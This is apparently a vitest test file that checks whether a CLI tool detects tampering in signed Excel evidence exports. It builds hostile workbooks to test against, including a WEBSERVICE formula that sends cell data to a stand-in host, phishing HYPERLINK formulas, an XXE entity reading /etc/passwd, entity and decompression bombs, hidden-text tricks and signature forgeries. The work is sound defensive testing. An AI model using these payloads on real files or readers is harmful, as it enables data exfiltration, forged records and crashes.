/**
 * Hostile workbooks against `attest verify`, each built here from a real signed export: what
 * Attest never writes (formulas with the original text cached, a veryHidden original behind an
 * edited copy of the same name, edits to the Evidence sheet outside its hash cells, hidden rows,
 * a format showing 44 as 4400, foreign parts), re-hashed forgeries (refused by `verify --key`),
 * and files made to crash a reader (a directory size of 0xFFFFFFF0, shared strings of gigabytes,
 * XXE). verify exits 1 or 2 on each, naming what it found; never 134.
 * The signing key is a real OS keychain entry (a service of this test's own).
 */
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/index';
import type { CliIO } from '../../src/cli/io';
import { keychainAvailable, osKeychain } from '../../src/main/keychain';
import {
  exportReport,
  publicKeyPem,
  SIGNING_KEY_ACCOUNT,
  signingKey,
  type EvidenceSigner,
  type VerifyResult,
} from '../../src/main/reports';
import { ephemeralSigner } from '../../src/main/reports/signing';
import { DATE_FORMAT, PAGE_FOOTER, ReportWorkbook, SIGNED_BY, SIGNING_PUBLIC_KEY, type ColumnSpec } from '../../src/main/reports/workbook';
import { XlsxReader, type XlsxRow } from '../../src/main/reports/xlsx-reader';
import { NOT_SIGNED } from '../../src/main/reports/evidence';
import { openStore } from '../../src/main/store/db';
import { seedFixtureStore } from '../e2e/seed-store';
import { openpyxlDump } from '../helpers/openpyxl';
import { editWorkbook, entryOf, rawZip, readParts, repeatedDeflate, replaceIn, sheetPart } from '../helpers/hostile-xlsx';

const root = fileURLToPath(new URL('../..', import.meta.url));
const dir = mkdtempSync(join(tmpdir(), 'attest-verify-hostile-'));
const SERVICE = `attest-test-signing-${process.pid}`;
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
let signer: EvidenceSigner;
let base = '';

const connection = { name: 'acme', tenantHost: 'acme.example.test', clientId: 'abc123@acme.example.test/attest', serverUrl: null };

beforeAll(async () => {
  if (!(await keychainAvailable()))
    throw new Error('The OS keychain (Secret Service) is not available: run under scripts/with-keyring.sh (these tests never skip)');
  signer = await signingKey(osKeychain(SERVICE));
  const storeFile = join(dir, 'store.sqlite');
  seedFixtureStore(storeFile, 12);
  const store = openStore(storeFile);
  try {
    base = join(dir, 'signed.xlsx');
    await exportReport({ kind: 'evidence', out: base, store, connection, appVersion: '9.9.9', signer });
  } finally {
    store.close();
  }
});

afterAll(async () => {
  await osKeychain(SERVICE)
    .delete(SIGNING_KEY_ACCOUNT)
    .catch(() => undefined);
  rmSync(dir, { recursive: true, force: true });
});

interface Verified {
  code: number;
  stderr: string;
  json: VerifyResult;
}

/** `attest verify FILE --json [args]` in process. */
async function verify(file: string, ...args: string[]): Promise<Verified> {
  let stdout = '';
  let stderr = '';
  const io: CliIO = {
    out: (text) => void (stdout += `${text}\n`),
    err: (text) => void (stderr += `${text}\n`),
    readStdin: async () => '',
    env: {},
    isTTY: false,
  };
  const code = await main(['verify', file, '--json', ...args], io);
  return { code, stderr, json: JSON.parse(stdout || 'null') as VerifyResult };
}

/** A real `attest verify` process with a small heap: a crash shows as 134 or a signal, never as a pass. */
function verifyProcess(file: string): Promise<{ code: number | null; signal: string | null; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(root, 'bin/attest.mjs'), 'verify', file], {
      env: { ...process.env, NODE_OPTIONS: '--max-old-space-size=256' },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    child.on('close', (code, signal) => resolve({ code, signal, stderr }));
  });
}

let count = 0;
/** A copy of the signed export with some parts edited. */
async function crafted(edit: (parts: Map<string, string | Buffer>) => void): Promise<string> {
  const file = join(dir, `crafted-${(count += 1)}.xlsx`);
  await editWorkbook(base, file, edit);
  return file;
}

async function expectAltered(file: string, finding: RegExp | string): Promise<Verified> {
  const result = await verify(file);
  expect(result.code, result.stderr).toBe(1);
  expect(result.json.status).toBe('altered');
  expect(result.stderr).toMatch(/^ALTERED: /);
  expect(result.stderr).toMatch(finding);
  return result;
}

describe('verify refuses what Attest never writes', () => {
  it('the signed export itself: intact, signed by the key given, hashes recomputed alike by openpyxl', async () => {
    const result = await verify(base, '--key', signer.fingerprint);
    expect(result.code, result.stderr).toBe(0);
    expect(result.json).toMatchObject({ status: 'intact', ok: true, problems: [], form: 'attest-canonical/4', resaved: null });
    expect(result.json.signature).toEqual({ status: 'valid', fingerprint: signer.fingerprint, expected: signer.fingerprint });
    expect(result.stderr).toContain(`Signed by the key you gave (${signer.fingerprint})`);
    const py = openpyxlDump(base);
    expect(py.overall).toBe(result.json.actualOverall);
    for (const sheet of result.json.sheets)
      expect(py.sheets.find((s) => s.name === sheet.name)!.sha256, sheet.name).toBe(sheet.actualSha256);
  });

  it('a HYPERLINK formula whose cached value is the original text', async () => {
    const file = await crafted((parts) => {
      const part = sheetPart(parts, 'Scopes');
      replaceIn(
        parts,
        part,
        /<c r="C2"(?: s="\d+")? t="str"><v>([^<]*)<\/v><\/c>/,
        '<c r="C2" t="str"><f>HYPERLINK("https://phish.example/login","$1")</f><v>$1</v></c>',
      );
    });
    const result = await expectAltered(file, 'formula in \'Scopes\'!C2: =HYPERLINK("https://phish.example/login"');
    // the cached text is the original: only the formula check tells
    expect(result.json.sheets.every((s) => s.status === 'intact')).toBe(true);
  });

  it('a WEBSERVICE formula on the Evidence sheet, its cached value the original', async () => {
    const file = await crafted((parts) => {
      replaceIn(
        parts,
        sheetPart(parts, 'Evidence'),
        /<c r="B4"(?: s="\d+")? t="str"><v>acme.example.test<\/v><\/c>/,
        '<c r="B4" t="str"><f>WEBSERVICE("https://leak.example/?d="&amp;B6)</f><v>acme.example.test</v></c>',
      );
    });
    await expectAltered(file, "formula in 'Evidence'!B4: =WEBSERVICE(");
  });

  it('the original sheet veryHidden, and an edited copy of the same name after it', async () => {
    const file = await crafted((parts) => {
      const original = sheetPart(parts, 'Scopes');
      parts.set('xl/worksheets/sheet99.xml', String(parts.get(original)).replace(/Read payroll/, 'Read and delete payroll'));
      replaceIn(parts, 'xl/workbook.xml', /(<sheet [^>]*name="Scopes" [^>]*)state="visible"/, '$1state="veryHidden"');
      replaceIn(parts, 'xl/workbook.xml', '</sheets>', '<sheet sheetId="99" name="Scopes" state="visible" r:id="rId99"/></sheets>');
      replaceIn(
        parts,
        'xl/_rels/workbook.xml.rels',
        '</Relationships>',
        `<Relationship Id="rId99" Type="${REL}/worksheet" Target="worksheets/sheet99.xml"/></Relationships>`,
      );
      replaceIn(
        parts,
        '[Content_Types].xml',
        '</Types>',
        '<Override PartName="/xl/worksheets/sheet99.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
      );
    });
    const result = await expectAltered(file, "sheet 'Scopes' is veryHidden");
    expect(result.json.problems).toContain("two sheets are named 'Scopes'");
  });

  it('a hidden sheet, defined names, an external link and an extra part', async () => {
    const file = await crafted((parts) => {
      replaceIn(parts, 'xl/workbook.xml', /(<sheet [^>]*name="Diff" [^>]*)state="visible"/, '$1state="hidden"');
      replaceIn(parts, 'xl/workbook.xml', '<definedNames>', '<definedNames><definedName name="Approved">"yes"</definedName>');
      replaceIn(
        parts,
        'xl/_rels/workbook.xml.rels',
        '</Relationships>',
        `<Relationship Id="rId77" Type="${REL}/externalLink" Target="https://phish.example/x.xlsx" TargetMode="External"/></Relationships>`,
      );
      parts.set('xl/sharedStrings2.xml', '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>x</t></si></sst>');
    });
    const result = await expectAltered(file, "sheet 'Diff' is hidden");
    expect(result.json.problems).toEqual(
      expect.arrayContaining([
        "the workbook has the defined name 'Approved' (Attest writes only print titles)",
        'unexpected relationship in xl/_rels/workbook.xml.rels: externalLink to external https://phish.example/x.xlsx',
        'unexpected part xl/sharedStrings2.xml',
      ]),
    );
  });

  it('a row added to the Evidence sheet below its hash table ("Approved by: CFO")', async () => {
    const file = await crafted((parts) => {
      replaceIn(
        parts,
        sheetPart(parts, 'Evidence'),
        '</sheetData>',
        '<row r="90"><c r="A90" t="inlineStr"><is><t>Approved by</t></is></c><c r="B90" t="inlineStr"><is><t>CFO</t></is></c></row></sheetData>',
      );
    });
    const result = await expectAltered(file, "sheet 'Evidence': content changed");
    expect(result.json.sheets.filter((s) => s.status !== 'intact').map((s) => s.name)).toEqual(['Evidence']);
  });

  it('the Rows column of the hash table edited', async () => {
    const file = await crafted((parts) => {
      const evidence = sheetPart(parts, 'Evidence');
      const row = /<row r="(\d+)"[^>]*><c r="A\d+"(?: s="\d+")? t="str"><v>Scopes<\/v><\/c>/.exec(String(parts.get(evidence)))!;
      replaceIn(parts, evidence, new RegExp(`<c r="C${row[1]}"><v>14</v></c>`), `<c r="C${row[1]}"><v>1400</v></c>`);
    });
    const result = await expectAltered(file, "the hash table says 'Scopes' has 1400 rows; it has 14");
    expect(result.json.sheets.find((s) => s.name === 'Evidence')!.status).toBe('altered');
  });

  it('a number format that shows 44 as 4400, on the Evidence sheet and on a data sheet', async () => {
    const file = await crafted((parts) => {
      replaceIn(parts, 'xl/styles.xml', /<numFmts count="1">/, '<numFmts count="2"><numFmt numFmtId="165" formatCode="0&quot;00&quot;"/>');
      const xfs = /<cellXfs count="(\d+)">/.exec(String(parts.get('xl/styles.xml')))!;
      replaceIn(
        parts,
        'xl/styles.xml',
        '</cellXfs>',
        '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>',
      );
      const style = Number(xfs[1]);
      const evidence = sheetPart(parts, 'Evidence');
      const row = /<row r="(\d+)"[^>]*><c r="A\d+"(?: s="\d+")? t="str"><v>Scopes<\/v><\/c>/.exec(String(parts.get(evidence)))!;
      replaceIn(parts, evidence, new RegExp(`<c r="C${row[1]}">`), `<c r="C${row[1]}" s="${style}">`);
      replaceIn(parts, sheetPart(parts, 'MCP toolsets'), /<c r="([A-Z]+2)"(?: s="\d+")?><v>/, `<c r="$1" s="${style}"><v>`);
    });
    const result = await expectAltered(file, /sheet 'Evidence': content changed/);
    expect(result.json.sheets.filter((s) => s.status !== 'intact').map((s) => s.name)).toEqual(['Evidence', 'MCP toolsets']);
  });

  it('hidden rows and columns, and rows of zero height', async () => {
    const file = await crafted((parts) => {
      replaceIn(parts, sheetPart(parts, 'Evidence'), /<row r="4" /, '<row r="4" hidden="1" ');
      replaceIn(parts, sheetPart(parts, 'Scopes'), /<row r="3" /, '<row r="3" ht="0" customHeight="1" ');
      replaceIn(parts, sheetPart(parts, 'Campaigns'), /<col min="1" max="1" /, '<col min="1" max="1" hidden="1" ');
    });
    const result = await expectAltered(file, "'Evidence' has hidden rows (row 4)");
    expect(result.json.problems).toEqual(
      expect.arrayContaining(["'Scopes' has rows of zero height (row 3)", "'Campaigns' has hidden columns"]),
    );
    // the cells are those exported: only the structure tells
    expect(result.json.sheets.every((s) => s.status === 'intact')).toBe(true);
  });

  it('a rich-text run in white, inline and in a shared string, over text that reads the same', async () => {
    const scopes = (parts: Map<string, string | Buffer>): string => sheetPart(parts, 'Scopes');
    const inline = await crafted((parts) =>
      replaceIn(
        parts,
        scopes(parts),
        /<c r="C2" s="(\d+)" t="str"><v>([^<]*)<\/v><\/c>/,
        '<c r="C2" s="$1" t="inlineStr"><is><r><t>$2</t></r><r><rPr><color rgb="FFFFFFFF"/></rPr><t> (not approved)</t></r></is></c>',
      ),
    );
    const result = await expectAltered(inline, /'Scopes'!C2 cannot be seen: text the colour of its background/);
    expect(result.json.sheets.find((s) => s.name === 'Scopes')!.status).toBe('altered');

    const shared = await crafted((parts) => {
      parts.set(
        'xl/sharedStrings.xml',
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">' +
          '<si><r><t>Approved</t></r><r><rPr><sz val="1"/></rPr><t> by nobody</t></r></si></sst>',
      );
      replaceIn(
        parts,
        'xl/_rels/workbook.xml.rels',
        '</Relationships>',
        `<Relationship Id="rIdS" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
      );
      replaceIn(
        parts,
        '[Content_Types].xml',
        '</Types>',
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
      );
      replaceIn(parts, scopes(parts), /<c r="C2" s="(\d+)" t="str"><v>[^<]*<\/v><\/c>/, '<c r="C2" s="$1" t="s"><v>0</v></c>');
    });
    await expectAltered(shared, /'Scopes'!C2 cannot be seen: a font of 1 points/);
  });

  it('a row style that gives every row a height of 1 point, and an element of another namespace named like a row', async () => {
    const low = await crafted((parts) => replaceIn(parts, sheetPart(parts, 'Scopes'), 'defaultRowHeight="15"', 'defaultRowHeight="1"'));
    // exceljs gives no row a height of its own: every row takes the default
    await expectAltered(low, /'Scopes' row 1 is 1 points high: what it holds cannot be seen/);
    const foreign = await crafted((parts) =>
      replaceIn(
        parts,
        sheetPart(parts, 'Scopes'),
        '</sheetData>',
        '<x:row xmlns:x="urn:example:other" r="99"><x:c r="A99"><x:v>1</x:v></x:c></x:row></sheetData>',
      ),
    );
    await expectAltered(foreign, "'Scopes' holds <x:row>, which Attest never writes");
  });
});

/**
 * A full re-hash forgery with Attest's own writer: every sheet read back, one cell changed, every
 * hash computed anew. `manifest` decides what the forged Evidence sheet says about signing.
 */
async function forge(name: string, manifest: (rows: unknown[][]) => unknown[][], forger?: EvidenceSigner): Promise<string> {
  const reader = await XlsxReader.open(base);
  const out = join(dir, name);
  // The forger prints as Attest does: the footer the Evidence sheet names.
  let footer: string | undefined;
  for await (const row of reader.rows(reader.sheets.find((s) => s.name === 'Evidence')!))
    if (row.cells[0] === PAGE_FOOTER) footer = String(row.cells[1]);
  const book = await ReportWorkbook.create(out, { footer });
  let evidence: unknown[][] = [];
  for (const sheet of reader.sheets) {
    const rows: XlsxRow[] = [];
    for await (const row of reader.rows(sheet)) rows.push(row);
    if (sheet.name === 'Evidence') {
      const end = rows.findIndex((r) => r.cells[0] === 'Hashes');
      evidence = rows.slice(0, end).map((r) => [...r.cells]);
      continue;
    }
    if (sheet.name === 'Locator') continue; // the writer makes its own, as Attest's does
    const width = Math.max(...rows.map((r) => r.cells.length));
    const columns: ColumnSpec[] = Array.from({ length: width }, (_, i) => ({
      header: String(rows[0]!.cells[i] ?? ''),
      type: rows.some((r) => r.formats[i] === DATE_FORMAT) ? 'date' : 'text',
    }));
    const data = rows.slice(1).map((r) => Array.from({ length: width }, (_, i) => r.cells[i] ?? null));
    if (sheet.name === 'Scopes') data[0]![2] = 'Read and delete files';
    await book.addSheet({ name: sheet.name, columns, rows: data as never[][] });
  }
  await book.finish(manifest(evidence) as never[][], forger);
  return out;
}

describe('signatures', () => {
  it('verify --key takes the fingerprint or a PEM key file; a workbook signed by another key is named as such', async () => {
    const pem = join(dir, 'exporter.pem');
    writeFileSync(pem, publicKeyPem(signer.publicKey));
    expect((await verify(base, '--key', pem)).code).toBe(0);
    expect((await verify(base, '--key', signer.fingerprint.replace('SHA256:', '').toUpperCase())).code).toBe(0);
    const other = ephemeralSigner();
    const wrong = await verify(base, '--key', other.fingerprint);
    expect(wrong.code).toBe(1);
    expect(wrong.json.signature.status).toBe('other-key');
    expect(wrong.stderr).toContain(`Signed with the key ${signer.fingerprint}, not with the key you gave (${other.fingerprint})`);
    const junk = join(dir, 'junk.pem');
    writeFileSync(junk, 'not a key');
    const refused = await verify(base, '--key', junk);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`--key ${junk} holds neither an Ed25519 public key (PEM) nor a fingerprint`);
    expect(refused.stderr).not.toContain('not a key');
  });

  it('a re-hashed forgery passes plain verify, which says plainly that hashes are no signature; verify --key refuses it', async () => {
    const unsigned = await forge('forged-unsigned.xlsx', (rows) =>
      rows.filter((r) => r[0] !== SIGNING_PUBLIC_KEY).map((r) => (r[0] === SIGNED_BY ? [SIGNED_BY, NOT_SIGNED] : r)),
    );
    const plain = await verify(unsigned);
    expect(plain.code, plain.stderr).toBe(0);
    expect(plain.json.signature.status).toBe('not-signed');
    expect(plain.json.notice).toMatch(
      /^Not signed: the hashes show whether the cells are unchanged since export, and nothing about who exported them/,
    );
    expect(plain.stderr).toContain(plain.json.notice);
    const keyed = await verify(unsigned, '--key', signer.fingerprint);
    expect(keyed.code).toBe(1);
    expect(keyed.stderr).toMatch(/^NOT VERIFIED: /);
    expect(keyed.json.notice).toContain(`Not signed, so not by the key you gave (${signer.fingerprint})`);
  });

  it('a forgery that keeps the signature of the original, and one signed by the forger`s own key', async () => {
    const original = await verify(base);
    const stolen = Buffer.from(
      (await readParts(base))
        .get(sheetPart(await readParts(base), 'Evidence'))!
        .match(/Signature \(Ed25519\)<\/v><\/c><c r="B\d+"(?: s="\d+")? t="str"><v>([^<]+)</)![1]!,
      'base64',
    );
    expect(original.json.signature.status).toBe('valid');
    const copied = await forge('forged-copied.xlsx', (rows) => rows, { ...signer, sign: () => stolen });
    const plain = await verify(copied);
    expect(plain.code).toBe(1);
    expect(plain.json.signature.status).toBe('invalid');
    expect(plain.stderr).toContain('The signature does not match the workbook');

    const forger = ephemeralSigner();
    const own = await forge(
      'forged-own-key.xlsx',
      (rows) =>
        rows.map((r) =>
          r[0] === SIGNED_BY ? [SIGNED_BY, forger.fingerprint] : r[0] === SIGNING_PUBLIC_KEY ? [SIGNING_PUBLIC_KEY, forger.publicKey] : r,
        ),
      forger,
    );
    const unchecked = await verify(own);
    expect(unchecked.code).toBe(0);
    expect(unchecked.json.notice).toContain(`Signed with the key ${forger.fingerprint}: give the exporter's fingerprint to verify --key`);
    const keyed = await verify(own, '--key', signer.fingerprint);
    expect(keyed.code).toBe(1);
    expect(keyed.json.signature).toMatchObject({ status: 'other-key', fingerprint: forger.fingerprint });
  });
});

describe('hostile files never crash verify', () => {
  it('an end-of-zip directory size of 0xFFFFFFF0: exit 2, not 134', async () => {
    const bytes = readFileSync(base);
    const eocd = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    bytes.writeUInt32LE(0xfffffff0, eocd + 12);
    const file = join(dir, 'directory-size.xlsx');
    writeFileSync(file, bytes);
    const run = await verifyProcess(file);
    expect(run.signal).toBeNull();
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toMatch(/not an Attest workbook or cannot be read: the zip directory declares 4096\.0 MiB, more than the 16\.0 MiB/);
  });

  it('24 shared strings of 300 MB each (a 7 MB file): exit 2, whether the sizes are told or lie', async () => {
    const parts = await readParts(base);
    parts.set(
      'xl/_rels/workbook.xml.rels',
      String(parts.get('xl/_rels/workbook.xml.rels')).replace(
        '</Relationships>',
        `<Relationship Id="rId88" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
      ),
    );
    const mb = 'A'.repeat(1024 * 1024);
    const pieces: [string, number][] = [['<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="24">', 1]];
    for (let i = 0; i < 24; i += 1) pieces.push(['<si><t>', 1], [mb, 300], ['</t></si>', 1]);
    pieces.push(['</sst>', 1]);
    const deflated = repeatedDeflate(pieces);
    const size = 24 * 300 * mb.length + 24 * 17 + 90;
    expect(deflated.length).toBeLessThan(12 * 1024 * 1024);
    for (const told of [size, 3_700_000]) {
      const file = join(dir, `shared-strings-${told}.xlsx`);
      writeFileSync(
        file,
        rawZip([...[...parts].map(([name, text]) => entryOf(name, text)), { name: 'xl/sharedStrings.xml', deflated, size: told, crc: 0 }]),
      );
      const started = performance.now();
      const run = await verifyProcess(file);
      expect(run.signal).toBeNull();
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toMatch(
        told === size
          ? /the zip entry xl\/sharedStrings\.xml inflates \d+ times \(7200\.\d MiB\), more than the 200 times verify accepts/
          : /the part xl\/sharedStrings\.xml holds a text, attribute or tag over 1048576 characters/,
      );
      expect(performance.now() - started).toBeLessThan(30_000);
    }
  });

  it('an XXE sheet and an entity bomb: refused, naming the DTD', async () => {
    const xxe = await crafted((parts) => {
      const part = sheetPart(parts, 'Scopes');
      replaceIn(parts, part, /^(<\?xml[^>]*\?>)/, '$1<!DOCTYPE worksheet [<!ENTITY leak SYSTEM "file:///etc/passwd">]>');
      replaceIn(parts, part, /<c r="C2"(?: s="\d+")? t="str"><v>[^<]*<\/v>/, '<c r="C2" t="str"><v>&leak;</v>');
    });
    const run = await verifyProcess(xxe);
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toMatch(
      /the part xl\/worksheets\/sheet\d+\.xml holds a DTD or entity declaration \(<!DOCTYPE\), which no workbook writer needs/,
    );
    expect(run.stderr).not.toContain('root:');
    const bomb = await crafted((parts) => {
      const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
      replaceIn(parts, 'xl/workbook.xml', /^(<\?xml[^>]*\?>)/, `$1<!DOCTYPE workbook [<!ENTITY l0 "lol">${lol}]>`);
    });
    const bombed = await verify(bomb);
    expect(bombed.code).toBe(2);
    expect(bombed.stderr).toContain('the part xl/workbook.xml holds a DTD or entity declaration');
  });

  it('twin zip entries, a cell outside the grid, cell text and a shared string over 32,767 characters, a part over its declared size', async () => {
    const parts = await readParts(base);
    const scopes = sheetPart(parts, 'Scopes');
    const entries = [...parts].map(([name, text]) => entryOf(name, text));
    const twins = join(dir, 'twins.xlsx');
    writeFileSync(twins, rawZip([...entries, entryOf(scopes, String(parts.get(scopes)).replace('Read payroll', 'Delete payroll'))]));
    expect((await verify(twins)).stderr).toContain(`the zip holds two entries named ${scopes}`);

    const outside = await crafted((p) => replaceIn(p, scopes, /<c r="C2" /, '<c r="ZZZZZZZZZZ2" '));
    expect((await verify(outside)).stderr).toContain("'Scopes' has a cell outside Excel's grid (ZZZZZZZZZZ2)");
    const long = await crafted((p) => replaceIn(p, scopes, /(<c r="C2"(?: s="\d+")? t="str"><v>)/, `$1${'x'.repeat(40_000)}`));
    expect((await verify(long)).stderr).toContain(`'Scopes'!C2 holds more than 32767 characters`);

    const strings = join(dir, 'long-shared-string.xlsx');
    const withStrings = new Map(parts);
    replaceIn(
      withStrings,
      'xl/_rels/workbook.xml.rels',
      '</Relationships>',
      `<Relationship Id="rId88" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    );
    withStrings.set(
      'xl/sharedStrings.xml',
      `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${'y'.repeat(40_000)}</t></si></sst>`,
    );
    writeFileSync(strings, rawZip([...withStrings].map(([name, text]) => entryOf(name, text))));
    expect((await verify(strings)).stderr).toContain("shared string 0 holds more than 32767 characters (Excel's limit for a cell)");

    const lying = join(dir, 'lying.xlsx');
    const text = String(parts.get(scopes));
    writeFileSync(lying, rawZip(entries.map((e) => (e.name === scopes ? { ...e, size: text.length - 100 } : e))));
    const told = await verify(lying);
    expect(told.stderr).toContain(`the zip entry ${scopes} inflates beyond its declared`);
    for (const file of [twins, outside, long, strings, lying]) expect((await verify(file)).code).toBe(2);
  });
});

describe('the page setup of a printable workbook (attest-canonical/3)', () => {
  it('every sheet prints landscape at a readable scale, row 1 repeated, the footer the Evidence sheet names: intact as exported', async () => {
    const parts = await readParts(base);
    expect(String(parts.get('xl/workbook.xml'))).toContain(
      `<definedName name="_xlnm.Print_Titles" localSheetId="2">&apos;Campaigns&apos;!$1:$1</definedName>`,
    );
    const scopes = String(parts.get(sheetPart(parts, 'Scopes')));
    expect(scopes).toMatch(/<pageSetup [^>]*orientation="landscape"[^>]*scale="(?:7[5-9]|[89]\d|100)"/);
    expect(scopes).not.toContain('fitToPage');
    expect(scopes).toMatch(
      /<oddFooter>&amp;LScopes&amp;CEvidence: the whole tenant: data as of [^<]+&amp;RPage &amp;P of &amp;N<\/oddFooter>/,
    );
    expect((await verify(base)).json).toMatchObject({ status: 'intact', problems: [] });
  });

  it('refuses a footer changed on one sheet, a page header added, print titles over more rows, another defined name', async () => {
    const footer = await crafted((p) => replaceIn(p, sheetPart(p, 'Scopes'), /&amp;C[^<&]+/, '&amp;CApproved by the CFO'));
    await expectAltered(footer, "the page header or footer of 'Scopes' is not the one the Evidence sheet gives (oddFooter)");
    const header = await crafted((p) =>
      replaceIn(p, sheetPart(p, 'Diff'), '<oddFooter>', '<oddHeader>&amp;CFinal, approved</oddHeader><oddFooter>'),
    );
    await expectAltered(header, "the page header or footer of 'Diff' is not the one the Evidence sheet gives (oddHeader, oddFooter)");
    const titles = await crafted((p) => replaceIn(p, 'xl/workbook.xml', '&apos;Scopes&apos;!$1:$1', '&apos;Scopes&apos;!$1:$9'));
    await expectAltered(titles, "the print titles of 'Scopes' are 'Scopes'!$1:$9 (Attest repeats row 1 only)");
    const area = await crafted((p) =>
      replaceIn(
        p,
        'xl/workbook.xml',
        '<definedNames>',
        '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="3">&apos;Templates&apos;!$A$1:$B$2</definedName>',
      ),
    );
    await expectAltered(area, "the workbook has the defined name '_xlnm.Print_Area' (Attest writes only print titles)");
    // A sheet's print area that leaves rows off the paper (Attest's ends at the sheet's last row, or prints row 1).
    const fewer = await crafted((p) => replaceIn(p, 'xl/workbook.xml', /(&apos;Scopes&apos;!\$A\$1:\$[A-Z]+\$)\d+/, '$12'));
    await expectAltered(fewer, "the workbook has the defined name '_xlnm.Print_Area' (Attest writes only print titles)");
  });

  it('refuses a footer in a workbook of an earlier form, which had none', async () => {
    const fixture = fileURLToPath(new URL('../fixtures/evidence-attest-canonical-2.xlsx', import.meta.url));
    const file = join(dir, 'canonical-2-footer.xlsx');
    await editWorkbook(fixture, file, (p) =>
      replaceIn(
        p,
        sheetPart(p, 'Scopes'),
        '</worksheet>',
        '<headerFooter><oddFooter>&amp;CApproved</oddFooter></headerFooter></worksheet>',
      ),
    );
    await expectAltered(file, "'Scopes' has a page header or footer (oddFooter), which Attest never writes there");
  });
});

describe('an export of attest-canonical/3 made before enum labels, names beside ids and the Raw sheet', () => {
  // Its data sheets hold the API's values ("XAA_SCOPE_STATE_ENABLED") and each date's "(API text)" column.
  const fixture = fileURLToPath(new URL('../fixtures/evidence-attest-canonical-3.xlsx', import.meta.url));

  it('still verifies, intact, with no warning', async () => {
    const result = await verify(fixture);
    expect(result.code, result.stderr).toBe(0);
    expect(result.json).toMatchObject({ status: 'intact', form: 'attest-canonical/3', problems: [], warnings: [] });
    expect(result.json.sheets.map((s) => s.name)).not.toContain('Raw API values');
  });

  it('is still refused once a cell is edited', async () => {
    const file = join(dir, 'canonical-3-edited.xlsx');
    await editWorkbook(fixture, file, (p) =>
      replaceIn(p, sheetPart(p, 'Scopes'), /(<c r="D2" [^>]*><v>)XAA_SCOPE_STATE_ENABLED</, '$1XAA_SCOPE_STATE_DISABLED<'),
    );
    const result = await verify(file);
    expect(result.code).toBe(1);
    expect(result.json.sheets.filter((s) => s.status !== 'intact').map((s) => s.name)).toEqual(['Scopes']);
  });
});

describe('an export of an earlier Attest (attest-canonical/2, before the cover, dictionary and page setup)', () => {
  const fixture = fileURLToPath(new URL('../fixtures/evidence-attest-canonical-2.xlsx', import.meta.url));

  it('still verifies, intact, with no warning', async () => {
    const result = await verify(fixture);
    expect(result.code, result.stderr).toBe(0);
    expect(result.json).toMatchObject({ status: 'intact', form: 'attest-canonical/2', problems: [], warnings: [] });
  });

  it('is still refused once a cell is edited', async () => {
    const file = join(dir, 'canonical-2-edited.xlsx');
    await editWorkbook(fixture, file, (p) =>
      replaceIn(p, sheetPart(p, 'Scopes'), /<c r="B2" t="str"><v>[^<]*</, '<c r="B2" t="str"><v>Edited<'),
    );
    const result = await verify(file);
    expect(result.code).toBe(1);
    expect(result.json.sheets.find((s) => s.name === 'Scopes')).toMatchObject({ status: 'altered' });
  });
});

describe('an export of an earlier Attest (attest-canonical/1)', () => {
  const fixture = fileURLToPath(new URL('../fixtures/evidence-attest-canonical-1.xlsx', import.meta.url));

  it('still verifies under its rules, with a plain warning that it predates the strict checks', async () => {
    const result = await verify(fixture);
    expect(result.code, result.stderr).toBe(0);
    expect(result.json).toMatchObject({ status: 'intact', form: 'attest-canonical/1', problems: [] });
    expect(result.stderr).toContain('warning: exported before strict verification (attest-canonical/1)');
    expect(result.json.notice).toMatch(/^Not signed/);
  });

  it('is refused for what Attest never wrote: a formula, a row below its hash table, a foreign number format', async () => {
    mkdirSync(join(dir, 'legacy'), { recursive: true });
    const edit = async (name: string, change: (parts: Map<string, string | Buffer>) => void): Promise<Verified> => {
      const file = join(dir, 'legacy', name);
      await editWorkbook(fixture, file, change);
      return verify(file);
    };
    const formula = await edit('formula.xlsx', (p) =>
      replaceIn(
        p,
        sheetPart(p, 'Scopes'),
        /<c r="C2" t="str"><v>([^<]*)<\/v>/,
        '<c r="C2" t="str"><f>HYPERLINK("https://phish.example/","$1")</f><v>$1</v>',
      ),
    );
    expect(formula.code).toBe(1);
    expect(formula.stderr).toContain("formula in 'Scopes'!C2");
    const below = await edit('below.xlsx', (p) =>
      replaceIn(
        p,
        sheetPart(p, 'Evidence'),
        '</sheetData>',
        '<row r="90"><c r="A90" t="inlineStr"><is><t>Approved by: CFO</t></is></c></row></sheetData>',
      ),
    );
    expect(below.code).toBe(1);
    expect(below.stderr).toContain('the Evidence sheet was edited below its hash table');
    const format = await edit('format.xlsx', (p) => {
      replaceIn(p, 'xl/styles.xml', /<numFmts count="1">/, '<numFmts count="2"><numFmt numFmtId="165" formatCode="0&quot;00&quot;"/>');
